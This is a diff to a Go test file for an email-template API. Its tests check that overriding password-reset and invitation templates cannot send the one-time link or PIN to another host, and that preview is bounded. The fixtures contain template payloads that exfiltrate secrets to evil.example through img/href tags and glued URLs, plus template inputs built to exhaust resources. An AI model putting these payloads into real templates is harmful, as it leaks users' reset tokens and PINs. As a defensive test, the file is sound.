@@ -258,8 +258,9 @@ func TestEmailTemplates(t *testing.T) {
 
 // TestEmailTemplateOverrideCannotLeakSecrets is the review's scenario: an administrator with only
 // System Management tries to make the password reset mail send its one-time link (and the invitation
-// its PIN) to another host. Every attempt is a 400 on html naming the field, nothing is stored or
-// audited, and the Tenant Admin's reset mail, asked for anonymously, goes out with the default.
+// its PIN) to another host, in a tag or glued to the end of a web address in either body. Every
+// attempt is a 400 on the part naming the field, nothing is stored or audited, and the Tenant Admin's
+// reset mail, asked for anonymously, goes out with the default.
 func TestEmailTemplateOverrideCannotLeakSecrets(t *testing.T) {
 	box := startInbox(t, "127.0.0.1:0")
 	e := newAPIEnv(t, "", func(c *Config) { c.SMTPURL = "smtp://" + box.addr })
@@ -273,18 +274,24 @@ func TestEmailTemplateOverrideCannotLeakSecrets(t *testing.T) {
 	}
 	auth := "sm@leakcheck.example.com:System-mgmt-pw-1"
 
-	attempts := []struct{ name, html, text, field string }{
-		{"password_request", `<p>Reset: {{.Link}}</p><img src="https://evil.example/p.gif?l={{.Link}}">`, "{{.Link}}", "{{.Link}}"},
-		{"password_request", `<p>Reset: {{.Link}}</p><a href="https://evil.example/?{{.Link}}">help</a>`, "{{.Link}}", "{{.Link}}"},
-		{"password_request", `{{with .Link}}<a href="https://evil.example/?{{.}}">Reset</a>{{end}}{{template "fallback" .Link}}`, "{{.Link}}", "{{.Link}}"},
-		{"invitation_pin", `<a href="https://evil.example/?{{.PIN}}">help</a>{{template "code" .PIN}}`, "{{.PIN}}", "{{.PIN}}"},
-		{"admin_invitation", `{{$l := .Link}}<a href="https://evil.example/?{{$l}}">x</a>{{template "fallback" .Link}}`, "{{.Link}}", "{{.Link}}"},
+	attempts := []struct{ name, html, text, field, part string }{
+		{"password_request", `<p>Reset: {{.Link}}</p><img src="https://evil.example/p.gif?l={{.Link}}">`, "{{.Link}}", "{{.Link}}", "html"},
+		{"password_request", `<p>Reset: {{.Link}}</p><a href="https://evil.example/?{{.Link}}">help</a>`, "{{.Link}}", "{{.Link}}", "html"},
+		{"password_request", `{{with .Link}}<a href="https://evil.example/?{{.}}">Reset</a>{{end}}{{template "fallback" .Link}}`, "{{.Link}}", "{{.Link}}", "html"},
+		{"invitation_pin", `<a href="https://evil.example/?{{.PIN}}">help</a>{{template "code" .PIN}}`, "{{.PIN}}", "{{.PIN}}", "html"},
+		{"admin_invitation", `{{$l := .Link}}<a href="https://evil.example/?{{$l}}">x</a>{{template "fallback" .Link}}`, "{{.Link}}", "{{.Link}}", "html"},
+		// Mail clients make one link of a web address and the secret glued to it.
+		{"password_request", `<p>Reset: https://evil.example/r?u={{.Link}}</p>`, "{{.Link}}", "{{.Link}}", "html"},
+		{"invitation_pin", `<p>https://evil.example/?p={{.PIN}}</p>{{template "code" .PIN}}`, "{{.PIN}}", "{{.PIN}}", "html"},
+		{"password_request", `<p>Reset: {{.Link}}</p>`, "Reset: https://evil.example/r?u={{.Link}}", "{{.Link}}", "text"},
+		{"password_request", `<p>Reset: {{.Link}}</p>`, "Reset: https://evil.example/r?u={{.Link | urlquery}}", "{{.Link}}", "text"},
+		{"invitation_pin", `{{template "code" .PIN}}`, "https://evil.example/?p={{.PIN}}", "{{.PIN}}", "text"},
 	}
 	for _, at := range attempts {
 		body := jsonBody(t, map[string]string{"subject": "Hello {{.TenantName}}", "html": at.html, "text": at.text})
 		for _, call := range [][2]string{{"PUT", ""}, {"POST", "/preview"}} {
 			r := e.call(call[0], "/api/v1/emailtemplates/"+at.name+call[1], auth, body)
-			if r.Status != 400 || r.field() != "html" || !strings.Contains(r.Body, at.field) {
+			if r.Status != 400 || r.field() != at.part || !strings.Contains(r.Body, at.field) {
 				t.Errorf("%s %s %.60q: %d %.300s", call[0], at.name, at.html, r.Status, r.Body)
 			}
 		}
@@ -314,5 +321,37 @@ func TestEmailTemplateOverrideCannotLeakSecrets(t *testing.T) {
 	msg := mailBody(box.wait(t, toLine("ta@leakcheck.example.com")))
 	if strings.Contains(msg, "evil.example") || !strings.Contains(msg, "/go/reset?token=") {
 		t.Errorf("reset mail:\n%s", msg)
+	}
+}
+
+// Preview stays open to System Read Only, since what it runs is bounded now: the review's payload
+// (65 s and about 1 GB before) and an override that renders too much are refused on html with a 400.
+func TestEmailTemplatePreviewByReadOnlyIsBounded(t *testing.T) {
+	e := newAPIEnv(t, "", nil)
+	tenant, _ := e.createTenant("Boundcheck")
+	now := time.Now()
+	ro := mdm.Account{TenantID: mdm.TenantID(tenant.ID), Username: "ro@boundcheck.example.com", Email: "ro@boundcheck.example.com",
+		FirstName: "Read", LastName: "Only", PasswordHash: secret.HashPassword("Read-only-pw-1"), Roles: []string{authz.RoleSystemReadOnly},
+		Enabled: true, CreatedAt: now, ModifiedAt: now}
+	if err := e.srv.Store().InTx(t.Context(), func(tx mdm.Stores) error { return tx.Accounts().Create(t.Context(), &ro) }); err != nil {
+		t.Fatal(err)
+	}
+	auth := "ro@boundcheck.example.com:Read-only-pw-1"
+	for _, tc := range []struct{ html, inMessage string }{
+		{`<p>{{.PIN}}</p>{{range 1000}}{{range 1000}}{{range 100}}xxxxxxxxxx{{end}}{{end}}{{end}}`, "{{range 1000}}"},
+		{`<p>{{.PIN}}</p>{{template "content" .}}`, `content`},
+		{`<p>{{.PIN}}</p>{{printf "%300000s" .FirstName}}`, "256 KiB"},
+	} {
+		r := e.call("POST", "/api/v1/emailtemplates/invitation_pin/preview", auth,
+			jsonBody(t, map[string]string{"subject": "Hi", "html": tc.html, "text": "{{.PIN}}"}))
+		if r.Status != 400 || r.field() != "html" || !strings.Contains(r.Body, tc.inMessage) {
+			t.Errorf("preview %.50q: %d %.300s", tc.html, r.Status, r.Body)
+		}
+	}
+	// A bounded override still previews for the same role.
+	r := e.call("POST", "/api/v1/emailtemplates/invitation_pin/preview", auth,
+		jsonBody(t, map[string]string{"subject": "Hi", "html": `<p>Code {{.PIN}}</p>`, "text": "Code {{.PIN}}"}))
+	if r.Status != 200 || !strings.Contains(r.Body, "482913") {
+		t.Errorf("bounded preview: %d %.300s", r.Status, r.Body)
 	}
 }
